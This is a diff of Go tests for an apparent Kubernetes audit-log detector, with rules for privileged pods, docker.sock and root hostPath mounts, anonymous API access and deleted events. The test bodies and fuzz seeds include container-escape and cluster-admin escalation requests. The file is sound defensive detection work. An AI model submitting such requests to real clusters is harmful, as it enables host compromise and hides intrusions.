-		{name: "D17 privileged deployment", events: []*Event{ev(evo{user: "alice", verb: "create", group: "apps", res: "deployments", ns: "apps", name: "d",
+		{name: "D17 privileged pod", events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", ns: "apps", req: privPod})}, rule: "KGD17", want: 1, msg: "alice created pods apps/p with privileged container c"},
+		{name: "D17 privileged deployment", events: []*audit.Event{ev(evo{user: "alice", verb: "create", group: "apps", res: "deployments", ns: "apps", name: "d",
 			req: `{"kind":"Deployment","metadata":{"name":"d"},"spec":{"template":{"spec":{"hostPID":true,"containers":[{"name":"c","image":"x"}]}}}}`})}, rule: "KGD17", want: 1, msg: "hostPID"},
-		{name: "D17 sensitive hostPath", events: []*Event{ev(evo{user: "alice", verb: "create", res: "pods", ns: "apps", req: hostPathPod("/var/run/docker.sock")})}, rule: "KGD17", want: 1},
-		{name: "D17 harmless hostPath", events: []*Event{ev(evo{user: "alice", verb: "create", res: "pods", ns: "apps", req: hostPathPod("/var/log/app")})}, rule: "KGD17", want: 0},
-		{name: "D17 allowed image", opts: DetectOptions{PodImageAllow: []string{"alpine"}}, events: []*Event{ev(evo{user: "alice", verb: "create", res: "pods", ns: "apps", req: privPod})}, rule: "KGD17", want: 0},
-		{name: "D17 malformed body", events: []*Event{ev(evo{user: "alice", verb: "create", res: "pods", ns: "apps", req: `{"spec":`})}, rule: "KGD17", want: 0},
+		{name: "D17 sensitive hostPath", events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", ns: "apps", req: hostPathPod("/var/run/docker.sock")})}, rule: "KGD17", want: 1},
+		{name: "D17 harmless hostPath", events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", ns: "apps", req: hostPathPod("/var/log/app")})}, rule: "KGD17", want: 0},
+		{name: "D17 allowed image", opts: DetectOptions{PodImageAllow: []string{"alpine"}}, events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", ns: "apps", req: privPod})}, rule: "KGD17", want: 0},
+		{name: "D17 malformed body", events: []*audit.Event{ev(evo{user: "alice", verb: "create", res: "pods", ns: "apps", req: `{"spec":`})}, rule: "KGD17", want: 0},
 
 		// KGD22
-		{name: "D22 anonymous lists pods", events: []*Event{ev(evo{user: "system:anonymous", groups: []string{"system:unauthenticated"}, verb: "list", res: "pods"})}, rule: "KGD22", want: 1, sev: reports.High},
-		{name: "D22 anonymous creates", events: []*Event{ev(evo{user: "system:anonymous", verb: "create", res: "namespaces"})}, rule: "KGD22", want: 1, sev: reports.Critical},
-		{name: "D22 anonymous healthz", events: []*Event{ev(evo{user: "system:anonymous", verb: "get", uri: "/healthz"})}, rule: "KGD22", want: 0},
-		{name: "D22 anonymous denied", events: []*Event{ev(evo{user: "system:anonymous", verb: "list", res: "pods", dec: "forbid"})}, rule: "KGD22", want: 0},
+		{name: "D22 anonymous lists pods", events: []*audit.Event{ev(evo{user: "system:anonymous", groups: []string{"system:unauthenticated"}, verb: "list", res: "pods"})}, rule: "KGD22", want: 1, sev: reports.High},
+		{name: "D22 anonymous creates", events: []*audit.Event{ev(evo{user: "system:anonymous", verb: "create", res: "namespaces"})}, rule: "KGD22", want: 1, sev: reports.Critical},
+		{name: "D22 anonymous healthz", events: []*audit.Event{ev(evo{user: "system:anonymous", verb: "get", uri: "/healthz"})}, rule: "KGD22", want: 0},
+		{name: "D22 anonymous denied", events: []*audit.Event{ev(evo{user: "system:anonymous", verb: "list", res: "pods", dec: "forbid"})}, rule: "KGD22", want: 0},
 
 		// KGD23
-		{name: "D23 events deleted", events: []*Event{ev(evo{user: "mallory", verb: "deletecollection", res: "events", ns: "apps"})}, rule: "KGD23", want: 1, msg: "mallory deleted events in namespace apps"},
-		{name: "D23 namespace controller", events: []*Event{ev(evo{user: "system:serviceaccount:kube-system:namespace-controller", verb: "deletecollection", res: "events", ns: "apps"})}, rule: "KGD23", want: 0},
+		{name: "D23 events deleted", events: []*audit.Event{ev(evo{user: "mallory", verb: "deletecollection", res: "events", ns: "apps"})}, rule: "KGD23", want: 1, msg: "mallory deleted events in namespace apps"},
+		{name: "D23 namespace controller", events: []*audit.Event{ev(evo{user: "system:serviceaccount:kube-system:namespace-controller", verb: "deletecollection", res: "events", ns: "apps"})}, rule: "KGD23", want: 0},
 	})
 }
 
@@ -360,7 +356,7 @@ func FuzzDetectorBodies(f *testing.F) {
 	f.Add(`{"roleRef":{"kind":"ClusterRole","name":"cluster-admin"},"rules":[{"resources":["*"],"verbs":["*"]}]}`, "/api/v1/nodes/n/proxy/run/a/b/c")
 	f.Add(`{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"volumes":[{"hostPath":{"path":"/"}}]}}}}}}`, "%zz")
 	f.Fuzz(func(t *testing.T, body, uri string) {
-		var events []*Event
+		var events []*audit.Event
 		for _, target := range []struct{ group, res, sub string }{
 			{"", "pods", ""}, {"batch", "cronjobs", ""}, {"apps", "deployments", ""}, {rbacGroup, "clusterrolebindings", ""},
 			{rbacGroup, "roles", ""}, {"", "pods", "exec"}, {"", "nodes", "proxy"},
